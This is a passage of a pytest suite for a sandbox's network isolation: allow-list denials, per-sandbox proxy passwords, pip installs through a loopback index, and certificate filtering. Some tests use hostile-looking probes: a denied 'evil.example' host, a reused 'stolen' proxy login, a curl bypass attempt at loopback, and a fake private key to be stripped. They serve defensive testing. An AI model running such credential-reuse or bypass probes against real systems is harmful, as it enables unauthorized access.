    (denial,) = allowed.network.denied()
    assert isinstance(denial, Denial)
    assert (denial.host, denial.port) == ("evil.example", 443)
    assert "allowed: web.example" in denial.reason
    assert before - 1 <= denial.time <= time.time() + 1
    allowed.kill()
    assert allowed.network.denied() == [denial]


def test_sandboxes_made_ahead_have_their_network(world):
    """One from the pool has its policy and a password of its own, and nothing was accepted before it was given out."""
    proxy = Proxy(world.names, world.wire.connect, Indexes)
    transport = EmbeddedTransport(runtimes={"namespaces": NamespacesRuntime(proxy=proxy, prefork=0, pool=1)})
    try:
        logins = set()
        for _ in range(3):
            with Sandbox.create(BARE, transport=transport, limits=LIMITS, network=ALLOWED) as sandbox:
                code, login = ask_there(sandbox, "answer = [get('web.example'), login]")
                assert code == 200
                logins.add(login)
                time.sleep(0.3)  # the next one is made
        assert len(logins) == 3
    finally:
        transport.close()


def test_each_sandbox_has_its_own_password(world):
    """What opens one sandbox's way does not open another's."""
    with world.create(ALLOWED) as one, world.create(ALLOWED) as other:
        stolen = ask_there(one, "answer = login")
        answers = ask_there(
            other,
            f"own = login\nlogin = {stolen!r}\nanswer = [get('web.example')]\nlogin = own\nanswer.append(get('web.example'))",
        )
    assert answers == [407, 200]


def test_a_policy_without_isolation_is_refused():
    """What nothing enforces is not promised."""
    for policy in ("public", ["web.example"]):
        with pytest.raises(Unsupported):
            Sandbox.create(isolation="none", network=policy)


@pytest.mark.parametrize("policy", [[], "", "all", ["*"], ["10.0.0.1"], {"deny": ["x"]}], ids=repr)
def test_an_empty_or_broken_policy_denies(policy):
    """R3: a typed error, and no sandbox."""
    with pytest.raises(InvalidRequest):
        Sandbox.create(network=policy)


def test_nothing_of_the_way_out_stays_in_init(world, allowed):
    """Init holds no socket of the proxy's once code runs: bytes cannot pass through it."""
    pid = allowed.info.features["pid"]
    links = [os.readlink(path) for path in Path(f"/proc/{pid}/fd").iterdir()]
    inodes = {line.split()[9] for line in Path(f"/proc/{pid}/net/tcp").read_text().splitlines()[1:]}
    assert inodes
    assert not inodes & {link.removeprefix("socket:[").rstrip("]") for link in links}


@pytest.fixture
def index() -> Iterator[Server]:
    """A package index on this machine's loopback that has one small pure package."""
    import io
    import zipfile

    wheel = io.BytesIO()
    info = "purely_made_up-1.0.dist-info"
    with zipfile.ZipFile(wheel, "w") as archive:
        archive.writestr("purely_made_up.py", "answer = 42\n")
        archive.writestr(f"{info}/METADATA", "Metadata-Version: 2.1\nName: purely-made-up\nVersion: 1.0\n")
        archive.writestr(
            f"{info}/WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        )
        archive.writestr(f"{info}/RECORD", "")
    name = "purely_made_up-1.0-py3-none-any.whl"
    with Server() as server:
        link = f'<!DOCTYPE html><a href="/files/{name}">{name}</a>'.encode()
        server.pages["/simple/purely-made-up/"] = page(link, fields="Content-Type: text/html\r\n")
        server.pages[f"/files/{name}"] = page(wheel.getvalue())
        yield server


def sandbox_with_index(index: Server, network) -> tuple[EmbeddedTransport, Sandbox]:
    environment = {"PIP_INDEX_URL": f"http://me:secret@127.0.0.1:{index.port}/simple", "HOME": "/nonexistent"}
    proxy = Proxy(indexes=lambda: read_indexes(environment, root="/nonexistent/", prefix="/nonexistent"))
    transport = EmbeddedTransport(runtimes={"namespaces": NamespacesRuntime(proxy=proxy, prefork=0, pool=0)})
    return transport, Sandbox.create(BARE, transport=transport, network=network)


def test_pip_installs_from_the_configured_index(index):
    """``%pip install`` works with "packages", from an index on loopback whose password never enters the sandbox."""
    transport, sandbox = sandbox_with_index(index, ["packages"])
    try:
        execution = sandbox.run_code(
            "%pip install purely-made-up\nimport purely_made_up\npurely_made_up.answer", timeout=60
        )
        assert execution.error is None, execution.logs
        assert execution.text == "42"
        assert b"authorization: Basic" in index.everything
        assert b"Proxy-Authorization" not in index.everything
        assert "secret" not in sandbox.commands.run("env").stdout
        done = shell(
            sandbox,
            f"unset PIP_PROXY; curl -s -m 5 -x $http_proxy --noproxy '' http://127.0.0.1:{index.port + 1}/",
            20,
        )
        assert (
            "cellfork: 127.0.0.1 is an address" in done.stdout or done.exit_code == 127
        )  # there may be no curl
    finally:
        sandbox.kill()
        transport.close()


@pytest.mark.parametrize("network", [None, ["web.example"]], ids=["none", "another host"])
def test_pip_fails_fast_and_says_why(world, network):
    """Without "packages" pip gives up within seconds, and says what would help."""
    with world.create(network) as sandbox:
        start = time.monotonic()
        execution = sandbox.run_code("%pip install purely-made-up", timeout=60)
        assert time.monotonic() - start < 10
        told = "".join(execution.logs.stderr)
        assert "cellfork: " in told
        assert '"packages"' in told
        done = shell(sandbox, "pip install purely-made-up")
        assert done.exit_code == 1
        assert '"packages"' in done.stderr


def test_pip_installs_from_the_real_index(tmp_path):
    """The same with whatever index this machine has, where it has one that answers."""
    options = ["--no-deps", "--no-cache-dir", "--retries=0", "--timeout=5", "-q", "-d", str(tmp_path)]
    checked = subprocess.run(
        [sys.executable, "-m", "pip", "download", *options, "roman"],
        capture_output=True,
        text=True,
        check=False,
        cwd=tmp_path,
        env={name: value for name, value in os.environ.items() if name != "PIP_FIND_LINKS"},
    )
    if checked.returncode != 0:
        reason = checked.stderr.strip().splitlines() or ["no reason given"]
        pytest.skip(f"pip of this machine has no index that answers: {reason[-1][:200]}")
    with Sandbox.create(network=["packages"]) as sandbox:
        execution = sandbox.run_code("%pip install roman\nimport roman\nroman.__file__", timeout=60)
        assert execution.error is None, (execution.logs, sandbox.network.denied())
        assert "/opt/venv/" in (execution.text or "")


def test_certificates_of_the_index_are_handed_in(tmp_path):
    """Where the host's bundle is not seen inside, its certificates are, and nothing else of the file."""
    bundle = tmp_path / "ca.pem"
    known = ssl.DER_cert_to_PEM_cert(b"made up" * 10)
    bundle.write_text(f"-----BEGIN PRIVATE KEY-----\nc2VjcmV0\n-----END PRIVATE KEY-----\n{known * 3000}")
    environment = {"PIP_CERT": str(bundle), "HOME": "/nonexistent"}
    proxy = Proxy(indexes=lambda: read_indexes(environment, root="/nonexistent/", prefix="/nonexistent"))
    transport = EmbeddedTransport(runtimes={"namespaces": NamespacesRuntime(proxy=proxy, prefork=0, pool=0)})
    try:
        with Sandbox.create(BARE, transport=transport, network=["packages"]) as sandbox:
            code = "import os\ntext = open(os.environ['PIP_CERT']).read()\nanswer = [text.count('BEGIN CERT'), 'PRIVATE' in text]"
            assert ask(sandbox, code) == [3000, False]
    finally:
        transport.close()
